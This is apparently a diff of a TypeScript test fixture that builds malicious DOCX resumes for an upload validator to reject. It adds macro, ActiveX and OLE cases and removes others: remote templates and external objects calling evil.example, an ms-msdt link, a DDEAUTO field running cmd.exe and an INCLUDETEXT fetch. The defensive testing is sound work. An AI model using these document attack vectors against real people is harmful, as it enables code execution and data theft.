@@ -2,17 +2,15 @@ import { RESUME_MAX_BYTES } from '@/lib/leads/resume'
 import { buildDocx, buildZip, contentTypesXml, documentXml } from './files'
 import { docxClaim, type ResumeCase } from './hostile-pdf'
 
-const rels = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`
-/** A document with one relation, e.g. to a template. */
-export const relation = (attributes: string) =>
-  buildDocx([{ name: 'word/_rels/settings.xml.rels', content: rels(attributes) }])
-
 /** A sound document of exactly so many bytes. */
 function growDocx(size: number): Buffer {
   const build = (length: number) =>
     buildDocx([{ name: 'word/media/a.png', content: Buffer.alloc(length, 7), stored: true }])
   return build(size - build(0).length)
 }
+
+const contentType = (type: string) =>
+  contentTypesXml.replace(/\/>$/, `><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`)
 
 /** Files that are no document, and documents that bring something along. */
 export const hostileDocuments: ResumeCase[] = [
@@ -35,11 +33,43 @@ export const hostileDocuments: ResumeCase[] = [
     buildDocx([
       {
         name: '[Content_Types].xml',
-        content: `${contentTypesXml}<!-- application/vnd.ms-word.document.macroEnabled.main+xml -->`,
+        content: contentType('application/vnd.ms-word.document.macroEnabled.main+xml'),
       },
     ]),
     docxClaim,
   ],
+  [
+    'a type with macros in disguised letters',
+    buildDocx([
+      {
+        name: '[Content_Types].xml',
+        content: contentType('application/vnd.ms-word.document.macro&#69;nabled.main+xml'),
+      },
+    ]),
+    docxClaim,
+  ],
+  [
+    'a type of a macro project',
+    buildDocx([
+      { name: '[Content_Types].xml', content: contentType('application/vnd.ms-office.vbaProject') },
+    ]),
+    docxClaim,
+  ],
+  [
+    'a type of a control',
+    buildDocx([
+      { name: '[Content_Types].xml', content: contentType('application/vnd.ms-office.activeX+xml') },
+    ]),
+    docxClaim,
+  ],
+  ['what macros are called', buildDocx([{ name: 'word/vbaData.xml', content: '<a/>' }]), docxClaim],
+  ['a control among others', buildDocx([{ name: 'word/activeX/a.xml', content: '<a/>' }]), docxClaim],
+  [
+    'an object without an ending',
+    buildDocx([{ name: 'word/embeddings/oleObject1', content: 'x' }]),
+    docxClaim,
+  ],
+  ['bytes of no known kind', buildDocx([{ name: 'word/media/a.bin', content: 'x' }]), docxClaim],
   ['a control', buildDocx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]), docxClaim],
   ['an object', buildDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]), docxClaim],
   ['a program inside', buildDocx([{ name: 'word/media/setup.exe', content: 'MZ' }]), docxClaim],
@@ -71,23 +101,6 @@ export const hostileDocuments: ResumeCase[] = [
     docxClaim,
   ],
   ['an encrypted part', buildDocx([{ name: 'word/a.xml', content: '<a/>', flags: 1 }]), docxClaim],
-  [
-    'an entity bomb',
-    buildDocx([{ name: 'word/document.xml', content: `<!DOCTYPE x [<!ENTITY a "b">]>${documentXml}` }]),
-    docxClaim,
-  ],
-  [
-    'a template from elsewhere',
-    buildDocx([
-      {
-        name: 'word/_rels/settings.xml.rels',
-        content: rels(
-          'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"',
-        ),
-      },
-    ]),
-    docxClaim,
-  ],
   ['bytes behind the zip', Buffer.concat([buildDocx(), Buffer.from('x')]), docxClaim],
   ['bytes before the zip', Buffer.concat([Buffer.from('PX'), buildDocx()]), docxClaim],
   ['a cut zip', buildDocx().subarray(0, 200), docxClaim],
@@ -122,82 +135,4 @@ export const hostileDocuments: ResumeCase[] = [
     docxClaim,
   ],
   ['a page inside', buildDocx([{ name: 'word/afchunk.mht', content: 'MIME-Version: 1.0' }]), docxClaim],
-  [
-    'a page for a document part',
-    buildDocx([{ name: 'word/document.xml', content: '<html><script>wordprocessingml</script></html>' }]),
-    docxClaim,
-  ],
-  [
-    'an object from elsewhere',
-    relation('Type="http://x/oleObject" Target="https://evil.example/a.html!" TargetMode="External"'),
-    docxClaim,
-  ],
-  [
-    'a picture from a share',
-    relation('Type="http://x/image" Target="file://evil/share/a.png" TargetMode="External"'),
-    docxClaim,
-  ],
-  [
-    'a frame from elsewhere',
-    relation("Type='http://x/frame' Target='https://evil.example/' TargetMode='External'"),
-    docxClaim,
-  ],
-  [
-    'a template in disguised letters',
-    relation(
-      'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm>" TargetMode="Exter&#110;al"',
-    ),
-    docxClaim,
-  ],
-  [
-    'a template in another encoding',
-    buildDocx([
-      {
-        name: 'word/_rels/settings.xml.rels',
-        content: Buffer.from('<Relationship Type="x/attachedTemplate" TargetMode="External"/>', 'utf16le'),
-      },
-    ]),
-    docxClaim,
-  ],
-  [
-    'a part in an encoding of its own',
-    buildDocx([{ name: 'word/a.xml', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
-    docxClaim,
-  ],
-  [
-    'a link that runs a tool',
-    relation('Type="http://x/hyperlink" Target="ms-msdt:/id PCWDiagnostic" TargetMode="External"'),
-    docxClaim,
-  ],
-  [
-    'a link that is a script',
-    relation('Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"'),
-    docxClaim,
-  ],
-  [
-    'a field that starts a program',
-    buildDocx([
-      {
-        name: 'word/document.xml',
-        content: documentXml.replace(
-          '<w:body/>',
-          '<w:body><w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\cmd.exe</w:instrText></w:body>',
-        ),
-      },
-    ]),
-    docxClaim,
-  ],
-  [
-    'a field that fetches a file',
-    buildDocx([
-      {
-        name: 'word/document.xml',
-        content: documentXml.replace(
-          '<w:body/>',
-          '<w:body><w:fldSimple w:instr="INCLUDETEXT //evil/x"/></w:body>',
-        ),
-      },
-    ]),
-    docxClaim,
-  ],
 ]
